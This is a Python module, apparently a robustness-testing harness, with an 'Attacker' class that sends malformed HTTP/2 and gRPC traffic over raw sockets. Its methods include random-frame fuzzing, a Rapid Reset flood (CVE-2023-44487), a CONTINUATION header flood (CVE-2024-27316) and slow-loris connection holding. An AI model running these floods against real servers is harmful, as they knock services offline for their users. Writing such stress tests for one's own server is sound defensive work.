"""Clients that mean no good, on plain sockets."""

from __future__ import annotations

import random
import socket
import struct
import time
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_TIMEOUT_S = 2.0


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that enters no table; both shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_head(path: bytes = b"/trident.diagnose.v1.DiagnoseService/Diagnose") -> bytes:
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
            (b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc"),
        )
    )  # fmt: skip


class Attacker:
    """Opens connections to a server, and sends what should not be sent.

    Args:
        target: ``host:port``.
        seed: Of everything at random.

    Attributes:
        frames: How many were sent.
    """

    def __init__(self, target: str, seed: int = 0) -> None:
        host, _, port = target.rpartition(":")
        self._address = host, int(port)
        self._chance = random.Random(seed)
        self.frames = 0

    def send(self, frames: list[bytes], *, greet: bool = True, each: int = 1) -> None:
        """Send these on a connection of their own, as long as it is open.

        Args:
            frames: What is sent.
            greet: Whether it begins as HTTP/2 does.
            each: How many frames each of them is.
        """
        with suppress(OSError), socket.create_connection(self._address, _TIMEOUT_S) as one:
            one.settimeout(_TIMEOUT_S)
            if greet:
                one.sendall(PREFACE + _SETTINGS)
            for place in range(0, len(frames), 200):
                part = frames[place : place + 200]
                one.sendall(b"".join(part))
                self.frames += each * len(part)
                with suppress(BlockingIOError):  # what it has to say must not fill its buffers
                    one.setblocking(False)
                    if one.recv(1 << 20) == b"":
                        return
                one.settimeout(_TIMEOUT_S)

    def garbage(self, count: int) -> None:
        """Send frames of random kinds, flags, streams and contents."""
        chance = self._chance
        self.send(
            [
                frame(
                    chance.randrange(12), chance.randrange(256), chance.randrange(1 << 31),
                    chance.randbytes(chance.randrange(64)),
                )
                for _ in range(count)
            ]
        )  # fmt: skip

    def no_http(self) -> None:
        """Send what is not even HTTP/2."""
        self.send([self._chance.randbytes(2000)], greet=False)

    def messages(self, count: int) -> None:
        """Send calls that look right and whose messages are random."""
        sent = []
        for number in range(count):
            stream = 2 * number + 1
            body = self._chance.randbytes(self._chance.randrange(80))
            size = len(body) if self._chance.random() < 0.8 else self._chance.randrange(1 << 32)
            message = struct.pack(">BI", self._chance.choice((0, 0, 0, 1, 7)), size) + body
            sent.append(frame(1, 4, stream, request_head()) + frame(0, 1, stream, message))
        self.send(sent, each=2)

    def rapid_reset(self, count: int) -> None:
        """Begin calls and call each off at once (CVE-2023-44487)."""
        head = request_head()
        self.send(
            [
                frame(1, 4, 2 * number + 1, head) + frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
                for number in range(count)
            ],
            each=2,
        )

    def no_text(self, calls: int) -> None:
        """Send calls whose metadata is no text, as much as a call may have."""
        head = request_head() + b"".join(literal(b"x-%d" % n, b"\xff" * 20) for n in range(93))
        self.send(
            [
                frame(1, 4, 2 * number + 1, head) + frame(3, 0, 2 * number + 1, b"\0\0\0\x08")
                for number in range(calls)
            ],
            each=2,
        )

    def header_bomb(self, parts: int) -> None:
        """Send headers without an end (CVE-2024-27316)."""
        block = b"".join(literal(b"x-%d" % number, b"y" * 100) for number in range(100))
        begin = frame(1, 0, 1, request_head())
        self.send([begin, *(frame(9, 0, 1, block) for _ in range(parts))])

    def slow_loris(self, connections: int, seconds: float) -> None:
        """Hold many connections, each with a call of which a byte comes now and then."""
        held = []
        for _ in range(connections):
            with suppress(OSError):
                one = socket.create_connection(self._address, _TIMEOUT_S)
                one.sendall(PREFACE + _SETTINGS + frame(1, 4, 1, request_head()))
                held.append(one)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for one in held:
                with suppress(OSError):
                    one.sendall(frame(0, 0, 1, b"\0"))
                    self.frames += 1
            time.sleep(0.5)
        for one in held:
            one.close()
